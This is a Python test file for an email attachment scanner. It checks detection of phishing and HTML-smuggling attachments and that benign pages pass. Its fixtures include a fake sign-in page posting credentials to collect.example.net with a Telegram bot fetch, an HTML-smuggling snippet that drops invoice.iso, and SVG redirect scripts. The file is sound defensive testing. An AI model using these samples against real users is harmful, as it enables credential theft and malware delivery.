"""HTML and SVG attachments: credential forms, scripts, redirects, smuggling, exfiltration."""

from __future__ import annotations

from attachment_helpers import analyze, attachment_engine, message_with

PHISH_PAGE = b"""<!DOCTYPE html><html><head><title>Sign in</title></head><body>
<h2>Your mailbox session expired. Sign in to view the document.</h2>
<form method="post" action="https://collect.example.net/owa/login.php">
<input type="email" name="login" placeholder="Email address">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button></form>
<script>var p = atob('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0'); fetch('https://api.telegram.org/bot123:ABC/sendMessage');</script>
</body></html>"""


def test_credential_harvesting_page():
    raw = message_with([("Remittance_Advice.html", "text/html", PHISH_PAGE)])
    syms, facts = analyze(raw)
    assert {"HTML_ATTACHMENT", "HTML_ATTACHMENT_CREDENTIAL_FORM", "HTML_ATTACHMENT_OBFUSCATED",
            "HTML_ATTACHMENT_EXFILTRATION", "HTML_ATTACHMENT_SCRIPT"} <= syms
    assert any(u == "https://collect.example.net/owa/login.php" for u, _ in facts["extra_urls"])
    assert attachment_engine().scan(raw).action in ("quarantine", "reject")


def test_redirect_page():
    page = b'<html><head><meta http-equiv="refresh" content="0; url=https://landing.example.org/x"></head></html>'
    syms, facts = analyze(message_with([("fax.htm", "text/html", page)]))
    assert "HTML_ATTACHMENT_REDIRECT" in syms
    page = b"<html><body><script>window.location.href = 'https://landing.example.org/' + '#' + 'id';</script></body></html>"
    syms, _ = analyze(message_with([("fax.htm", "text/html", page)]))
    assert "HTML_ATTACHMENT_REDIRECT" in syms


def test_html_smuggling():
    page = (b"<html><body><script>var b = new Blob([atob(data)], {type:'application/octet-stream'});"
            b"var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download='invoice.iso';"
            b"a.click();</script></body></html>")
    syms, _ = analyze(message_with([("invoice.html", "text/html", page)]))
    assert "HTML_SMUGGLING" in syms


def test_svg_with_script():
    svg = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
           b'<script type="text/javascript">window.location="https://x.example.com/"+location.hash</script></svg>')
    syms, facts = analyze(message_with([("voice_message.svg", "image/svg+xml", svg)]))
    assert "SVG_ACTIVE_CONTENT" in syms
    svg2 = b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="https://a.example/"/></foreignObject></svg>'
    syms, _ = analyze(message_with([("logo.svg", "image/svg+xml", svg2)]))
    assert "SVG_ACTIVE_CONTENT" in syms


def test_plain_svg_logo_is_quiet():
    svg = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
           b'<circle cx="5" cy="5" r="4" fill="#036"/><a href="https://www.example.org/">home</a></svg>')
    syms, facts = analyze(message_with([("logo.svg", "image/svg+xml", svg)]))
    assert syms == set()
    assert ("https://www.example.org/", "link in logo.svg") in facts["extra_urls"]


def test_plain_html_attachment_does_not_tag():
    page = b"<html><body><h1>Release notes</h1><p>See <a href='https://www.example.org/notes'>notes</a>.</p></body></html>"
    raw = message_with([("notes.html", "text/html", page)])
    syms, _ = analyze(raw)
    assert syms == {"HTML_ATTACHMENT"}
    assert attachment_engine().scan(raw).action == "accept"


def test_long_base64_blob_in_script_is_obfuscation_and_near_misses_are_fast():
    blob = "QUJD" * 1000
    page = f"<html><body><script>var d = '{blob}';</script></body></html>".encode()
    syms, _ = analyze(message_with([("doc.html", "text/html", page)]))
    assert "HTML_ATTACHMENT_OBFUSCATED" in syms
    # Many runs just under the threshold: must not be quadratic, and is not obfuscation.
    near = " ".join(["A" * 1999] * 200)
    page = f"<html><body><script>var d = '{near}';</script></body></html>".encode()
    syms, _ = analyze(message_with([("doc.html", "text/html", page)]))
    assert "HTML_ATTACHMENT_OBFUSCATED" not in syms
